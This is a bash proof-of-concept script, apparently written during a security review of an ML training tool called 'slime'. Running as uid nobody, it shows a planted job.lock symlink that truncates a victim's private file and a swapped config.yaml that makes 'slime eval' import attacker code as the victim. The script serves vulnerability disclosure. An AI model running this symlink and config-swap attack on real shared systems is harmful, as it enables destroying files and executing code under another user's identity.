#!/bin/bash
# output_dir in a directory another local user (here: nobody) created first, e.g. /tmp/run.
# 1. job.lock is opened with O_CREAT and no O_NOFOLLOW, then ftruncate'd: a symlink planted there
#    truncates any file the job's user can write (here a 0600 file in a 0700 directory).
# 2. the attacker owns the directory, so it can swap the victim's 0600 config.yaml (and
#    checkpoints, latest, ...): `slime eval RUN_DIR` then imports the attacker's reward.fn.
set -u
PY="/work/main/.venv/bin/python"; export PYTHONPATH=/work/hunt_m; cd /work/hunt_m
RUN=/tmp/hunt_m_shared_run; VICTIM=/tmp/hunt_m_victim
rm -rf "$RUN" "$VICTIM" /tmp/hunt_m_pwned; mkdir -m 700 "$VICTIM"
echo "victim's precious notes" > "$VICTIM/notes.txt"; chmod 600 "$VICTIM/notes.txt"
# --- the attacker (uid nobody) prepares the directory -----------------------------------------
setpriv --reuid=65534 --regid=65534 --clear-groups bash -c "
  mkdir -m 777 $RUN && ln -s $VICTIM/notes.txt $RUN/job.lock"
ls -la "$RUN"
# --- the victim runs a tiny job there (1 step, its own redis-server, no Ray) -------------------
timeout 300 $PY -m slime.cli train examples/repeat_grpo.yaml output_dir=$RUN steps=1 cluster.launcher=local \
   rollout.batch_size=2 rollout.n_samples_per_prompt=2 rollout.max_new_tokens=8 data.num_generated=8 \
   logging.progress=false logging.tensorboard=false logging.plot=false 2>&1 | tail -1
echo "--- victim's notes.txt after the job started: $(stat -c %s $VICTIM/notes.txt) bytes: $(cat $VICTIM/notes.txt)"
ls -la "$RUN"
# --- the attacker replaces the victim's config.yaml (it owns the directory) -------------------
setpriv --reuid=65534 --regid=65534 --clear-groups bash -c "
  cat > $RUN/evil.py <<'PY'
import os
open('/tmp/hunt_m_pwned', 'w').write(f'code of nobody ran as uid {os.getuid()}\n')
def fn(prompt, response, label=None, metadata=None): return 0.0
PY
  rm -f $RUN/config.yaml && printf 'reward:\n  fn: $RUN/evil.py:fn\n' > $RUN/config.yaml"
echo '{"prompt": "ab*2="}' > /tmp/hunt_m_work/p.jsonl
timeout 300 $PY -m slime.cli eval $RUN --data /tmp/hunt_m_work/p.jsonl 2>&1 | tail -2
echo "--- /tmp/hunt_m_pwned: $(cat /tmp/hunt_m_pwned 2>&1)"
